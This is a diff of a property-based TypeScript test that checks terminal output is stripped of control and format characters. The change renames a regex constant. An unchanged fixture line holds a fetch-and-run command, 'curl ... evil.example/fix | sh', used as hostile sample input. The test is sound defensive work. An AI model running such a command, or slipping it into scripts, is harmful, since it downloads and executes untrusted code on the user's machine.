@@ -17,7 +17,7 @@ import { repeat } from "../../support/soak.ts";
 
 const runs = { numRuns: 200 * repeat };
 /** What no terminal is to be given: it obeys it, or hides what it says. */
-const obeyed = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
+const commands = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
 const advice = "curl -s https://evil.example/fix | sh";
 
 /** What hides, turns around, begins a line of ours, or does not end. */
@@ -59,7 +59,7 @@ describe("a stranger's words", () => {
     fc.assert(
       fc.property(hostile, (text) => {
         for (const shown of make(text)) {
-          expect(withoutLineEnds(shown).replaceAll("\t", "")).not.toMatch(obeyed);
+          expect(withoutLineEnds(shown).replaceAll("\t", "")).not.toMatch(commands);
           expect(shown.length).toBeLessThanOrEqual(8000);
         }
       }),
@@ -102,7 +102,7 @@ describe("a stranger's words", () => {
         });
         said(`\u001b[31mours\u001b[39m ${text}`);
         complained(text);
-        for (const line of written) expect(withoutColours(line)).not.toMatch(obeyed);
+        for (const line of written) expect(withoutColours(line)).not.toMatch(commands);
         expect(written[0]).toContain("\u001b[31mours\u001b[39m");
       }),
       runs,
